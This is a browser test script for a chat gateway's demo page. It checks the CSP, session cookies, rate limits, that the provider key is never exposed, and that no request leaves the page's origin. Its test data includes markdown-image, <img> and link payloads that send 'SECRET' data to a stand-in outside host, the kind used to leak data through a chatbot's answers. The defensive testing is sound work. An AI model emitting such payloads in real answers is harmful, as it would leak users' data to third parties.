// The demo page in a real browser (Debian's chromium, driven by
// playwright-core): log in, chat, and prove what the page promises: the
// provider key reaches nothing the browser sees, the browser talks to no
// origin but the page's, and a hostile answer (markdown image, <img>, link
// to an outside host carrying data) loads nothing.
//
// Usage: node chat.test.js BASE_URL MOCK_STATS_URL
// Environment: CG_KEY (the provider key, to look for), CG_SCREENSHOT (where
// to save a screenshot), CG_RPM (the configured requests per minute).
// Prints TAP lines and a last line "N passed, N failed"; exits 1 on failure.
'use strict';

const { chromium } = require('playwright-core');
const launch = require('./launch');

const [base, statsUrl] = process.argv.slice(2);
const origin = new URL(base).origin;
const key = process.env.CG_KEY || '';
const rpm = Number(process.env.CG_RPM || 0);
const outside = 'http://127.0.0.2:9';

const { ok, done, record } = require('./tap');

// Types a message, sends it and waits until the page is ready again; returns
// the entry the answer (or error) produced.
async function say(page, text) {
    const before = await page.locator('#log > li').count();
    await page.fill('#message', text);
    await page.press('#message', 'Enter');
    await page.waitForFunction((b) => {
        return document.querySelectorAll('#log > li').length >= b + 2
            && !document.getElementById('send').disabled;
    }, before);
    const last = page.locator('#log > li').last();
    return { cls: await last.getAttribute('class'),
             mode: await last.getAttribute('data-mode'),
             text: (await last.locator('.text').textContent()).trim() };
}

// For [[mock:text=...]]: percent-encoded, so it holds no "]]".
function pctEncode(s) {
    return encodeURIComponent(s).replace(/[!'()*]/g,
        (ch) => '%' + ch.charCodeAt(0).toString(16));
}

function sse(events) {
    return events.map(([name, data]) => name === ':'
        ? ': ping\r\n\r\n'
        : 'event: ' + name + '\r\ndata: ' + JSON.stringify(data) + '\r\n\r\n').join('');
}

// The page against the documented contract (docs/http-api.md), whatever this
// build of chatgate implements: canned answers for /api/chat, in a context of
// their own.
async function contract(browser) {
    const done = ['done', { request_id: 'req_1', route: 'default',
                            usage: { input_tokens: 1, output_tokens: 2 },
                            stop_reason: 'end_turn' }];
    const cases = [
        ['SSE deltas are joined, pings skipped', 200, 'text/event-stream',
         sse([['delta', { text: 'Hel' }], [':'], ['delta', { text: 'lo ![i](' + outside + '/s)' }], done]),
         'assistant', (t) => t === 'Hello ![i](' + outside + '/s)'],
        ['an SSE error event after some text is shown in words', 200, 'text/event-stream',
         sse([['delta', { text: 'Part' }], ['error', { error: { type: 'upstream_error', message: 'x' },
                                                       request_id: 'req_2' }]]),
         'error', (t) => /AI service is unavailable/.test(t)],
        ['a stream that ends without done says it was cut off', 200, 'text/event-stream',
         sse([['delta', { text: 'Par' }]]),
         'error', (t) => /cut off/.test(t)],
        ['a 400 shows chatgate\'s message', 400, 'application/json',
         JSON.stringify({ error: { type: 'invalid_request', message: 'Message is empty.' } }),
         'error', (t) => /could not be sent: Message is empty\./.test(t)],
        ['a 502 says the AI service is unavailable', 502, 'application/json',
         JSON.stringify({ error: { type: 'upstream_error', message: 'x' } }),
         'error', (t) => /AI service is unavailable/.test(t)],
    ];
    const ctx = await browser.newContext();
    const seen = [];
    const pending = record(ctx, seen, { failed: true });
    const page = await ctx.newPage();
    page.setDefaultTimeout(15000);
    await page.goto(base + '/');
    for (const [name, status, type, body, cls, check] of cases) {
        await page.unroute('**/api/chat');
        await page.route('**/api/chat', (route) => route.fulfill({
            status: status, headers: { 'Content-Type': type }, body: body }));
        const r = await say(page, 'case');
        ok(r.cls === cls && check(r.text), 'contract: ' + name, JSON.stringify(r));
    }
    await ctx.close();
    await Promise.all(pending);
    ok(!seen.some((x) => new URL(x.url).origin !== origin),
       'contract: nothing in those answers made the browser leave the origin');
}

async function main() {
    const browser = await launch(chromium);
    const seen = [];
    const pending = [];
    const consoleLines = [];
    const storage = [];
    try {
        // The CSP itself is a second wall: an image pointing outside is
        // refused by the browser even if a bug ever created one. (In its own
        // context: the attempt shows as a request, which also proves that
        // the recorder sees attempts the CSP blocks.)
        const probeCtx = await browser.newContext();
        const probeSeen = [];
        const probePending = record(probeCtx, probeSeen, { failed: true });
        const p0 = await probeCtx.newPage();
        await p0.goto(base + '/');
        const blocked = await p0.evaluate((u) => new Promise((resolve) => {
            document.addEventListener('securitypolicyviolation',
                (e) => resolve(e.blockedURI + ' ' + e.violatedDirective));
            const img = new Image();
            img.src = u + '/csp-probe';
            document.body.append(img);
            setTimeout(() => resolve('no violation'), 5000);
        }), outside);
        ok(/127\.0\.0\.2.*img-src/.test(blocked),
           'the CSP blocks an image from an outside host', blocked);
        await probeCtx.close();
        await Promise.all(probePending);
        ok(probeSeen.some((x) => /csp-probe/.test(x.url)),
           'the recorder sees even a request the CSP blocked');

        await contract(browser);

        // 1. Not logged in: the page loads with its headers, and a message
        //    gets the 401 words.
        const anon = await browser.newContext();
        pending.push(...record(anon, seen, { failed: true }));
        const p1 = await anon.newPage();
        p1.setDefaultTimeout(15000);
        p1.on('console', (m) => consoleLines.push(m.text()));
        const doc = await p1.goto(base + '/');
        const h = await doc.allHeaders();
        ok(/default-src 'self'/.test(h['content-security-policy'] || '')
           && /img-src 'self'/.test(h['content-security-policy'])
           && /script-src 'self'/.test(h['content-security-policy'])
           && !/unsafe/.test(h['content-security-policy']),
           'page has a strict Content-Security-Policy',
           h['content-security-policy']);
        ok(h['x-content-type-options'] === 'nosniff'
           && h['referrer-policy'] === 'no-referrer',
           'page has nosniff and Referrer-Policy: no-referrer');
        const r401 = await say(p1, 'hello without a login');
        ok(r401.cls === 'error' && /please log in/i.test(r401.text),
           'without a login the page says "please log in"', r401.text);
        storage.push(await p1.evaluate(() => JSON.stringify(
            [Object.entries(localStorage), Object.entries(sessionStorage)])));

        await anon.close();

        // 2. Log in through the demo login: an HttpOnly, SameSite=Strict
        //    cookie for /api/ only.
        const ctx = await browser.newContext({ viewport: { width: 900, height: 640 } });
        pending.push(...record(ctx, seen, { failed: true }));
        const page = await ctx.newPage();
        page.setDefaultTimeout(15000);
        page.on('console', (m) => consoleLines.push(m.text()));
        await page.goto(base + '/');
        await page.click('#login');
        await page.waitForURL(base + '/');
        const cookies = await ctx.cookies(base + '/api/chat');
        const c = cookies.find((x) => x.name === 'chatgate_session');
        ok(c && c.httpOnly && c.sameSite === 'Strict' && c.path === '/api/',
           'login sets an HttpOnly SameSite=Strict cookie for /api/',
           JSON.stringify(cookies));
        ok(await page.evaluate(() => document.cookie) === '',
           'the page script cannot read the session cookie');

        // 3. Chat: the answer appears (as a stream when chatgate streams).
        await page.evaluate(() => {
            window.cgStates = new Set();
            new MutationObserver(() => {
                const t = document.querySelector('#log > li.assistant:last-of-type .text');
                if (t) {
                    window.cgStates.add(t.textContent);
                }
            }).observe(document.getElementById('log'),
                       { childList: true, subtree: true, characterData: true });
        });
        const hello = await say(page, 'Hello from a real browser! [[mock:hold_ms=30]]');
        ok(hello.cls === 'assistant'
           && hello.text === 'mock reply: Hello from a real browser!',
           'the answer is rendered', JSON.stringify(hello));
        const states = await page.evaluate(() => window.cgStates.size);
        if (hello.mode === 'stream') {
            ok(states > 2, 'the answer was shown piece by piece as it streamed',
               states + ' states');
        } else {
            console.log('# chatgate answered JSON (no streaming on this build)');
            ok(hello.mode === 'json', 'a JSON answer is rendered whole');
        }
        const limits = await page.textContent('#limits');
        ok(!rpm || new RegExp('\\d+ of ' + rpm + ' requests left').test(limits),
           'remaining requests are shown from the RateLimit header', limits);

        // 4. A hostile answer: markdown image, raw <img>, a link, each to an
        //    outside host carrying data. It must stay text.
        const evil = '![x](' + outside + '/leak?d=SECRET) <img src='
            + outside + '/x> [click me](' + outside + '/l?d=SECRET) '
            + '<a href="' + outside + '/a">a</a>';
        const r = await say(page, 'Show me a picture [[mock:text=' + pctEncode(evil) + ']]');
        // chatgate's output guard (where built in) may already have removed
        // the URLs; whatever is left must be plain text.
        ok(r.cls === 'assistant' && /click me/.test(r.text)
           && (!/127\.0\.0\.2/.test(r.text) || r.text === evil),
           'a hostile answer is shown as literal text', JSON.stringify(r));
        const active = await page.evaluate(() => Array.from(
            document.querySelectorAll('#log img, #log a, #log iframe, #log object, '
                                      + '#log embed, #log video, #log audio, #log link'))
            .map((e) => e.outerHTML));
        ok(active.length === 0, 'no image, link or embed element in the conversation',
           active.join('\n'));
        // 4b. The page renders answers as Markdown (markdown-it, as a site
        //     would): formatting works, and the issue-15 answer whose outer
        //     link CommonMark rejects, so that it renders the inner image,
        //     reaches the page without that image.
        const trick = '**Bold** [x](/rel ![i](' + outside + '/p.png?d=SECRET)) '
            + '<img src=" //127.0.0.2/x"> www.example.org/p?d=SECRET';
        const m = await say(page, 'Markdown [[mock:text=' + pctEncode(trick) + ']]');
        const html = await page.evaluate(() => document.querySelector(
            '#log > li.assistant:last-of-type .text').innerHTML);
        ok(m.cls === 'assistant' && /<strong>Bold<\/strong>/.test(html),
           'answers are rendered as Markdown', html);
        ok(!/<img|<a |127\.0\.0\.2|example\.org/.test(html),
           'the Markdown answer holds no image, link or outside URL', html);
        // Give any (wrongly) created element a moment to fetch: the check
        // below must be able to see such a request.
        await page.waitForTimeout(300);
        if (process.env.CG_SCREENSHOT) {
            await page.screenshot({ path: process.env.CG_SCREENSHOT });
        }

        // 5. Hammering: the 429 words with the retry time.
        let last = null;
        for (let i = 0; i < rpm + 3; i++) {
            last = await say(page, 'again ' + i);
            if (last.cls === 'error') {
                break;
            }
        }
        ok(last && last.cls === 'error'
           && /too many messages.*wait \d+ seconds? and try again/i.test(last.text),
           'hammering shows the rate-limit message with the retry time',
           JSON.stringify(last));
        storage.push(await page.evaluate(() => JSON.stringify(
            [Object.entries(localStorage), Object.entries(sessionStorage)])));
        storage.push(await page.content());
        storage.push(JSON.stringify(await ctx.cookies()));

        // 6. Log out: the cookie is gone and the page asks to log in again.
        ok(await page.textContent('#login') === 'Log out',
           'after an answer the button offers to log out');
        await page.click('#login');
        await page.waitForURL(base + '/');
        const out = await say(page, 'after logout');
        ok(out.cls === 'error' && /please log in/i.test(out.text)
           && (await ctx.cookies(base + '/api/chat')).length === 0,
           'after logging out the page says "please log in"', JSON.stringify(out));
        await ctx.close();
    } finally {
        await browser.close();
    }
    await Promise.all(pending);

    // 7. What the browser saw.
    const foreign = seen.filter((s) => new URL(s.url).origin !== origin);
    ok(seen.length > 0 && foreign.length === 0,
       'no request went to any origin but the page\'s',
       foreign.map((s) => s.kind + ' ' + s.url).join('\n'));
    ok(!consoleLines.some((l) => /127\.0\.0\.2/.test(l)),
       'the browser never even tried the outside host',
       consoleLines.join('\n'));
    const chats = seen.filter((s) => s.kind === 'request' && /\/api\/chat$/.test(s.url));
    ok(chats.length >= 3 && chats.every((s) => s.headers.origin === origin),
       'chat requests carry the page\'s Origin',
       chats.map((s) => s.headers.origin).join(' '));

    const everything = JSON.stringify(seen) + storage.join('\n')
        + consoleLines.join('\n');
    const variants = key ? [key, Buffer.from(key).toString('base64'),
                            Buffer.from(key).toString('base64url'),
                            encodeURIComponent(key), key.slice(13, 40)] : [];
    const hits = variants.filter((v) => everything.includes(v));
    ok(key && hits.length === 0 && !/sk-ant-(api|admin)\d\d-[\w-]{20}/.test(everything),
       'the provider key (or its base64) appears in nothing the browser saw',
       hits.length + ' variants found');

    const stats = await (await fetch(statsUrl)).json();
    ok(stats.requests >= 3, 'the answers came from the provider behind chatgate',
       JSON.stringify(stats));
}

main().catch((e) => {
    ok(false, 'browser test ran to the end', e && e.stack);
}).finally(() => {
    done();
});
